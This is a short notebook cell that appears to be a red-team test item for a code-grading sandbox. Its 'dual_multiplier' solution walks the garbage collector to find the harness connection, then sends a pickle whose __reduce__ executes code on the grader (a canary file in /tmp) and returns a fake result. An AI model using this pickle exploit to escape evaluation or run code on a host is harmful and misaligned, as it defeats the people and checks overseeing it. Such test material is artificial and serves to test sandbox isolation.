# %% [markdown]
# A function sends a pickle that would run here.
#
# earns: 8
# incident: died

# %% solution="dual_multiplier"
import gc
import sys

inside = sys.modules["inside"]
calls = next(o for o in gc.get_objects() if type(o).__name__ == "Calls")


def dual_multiplier(M, h, b, c):
    import pickle

    class Run:
        def __reduce__(self):
            return exec, ("open('/tmp/__NAME__', 'w').close()",)

    data = pickle.dumps(Run())
    calls.connection.sendall(len(data).to_bytes(8, "big") + data)
    return 2.0
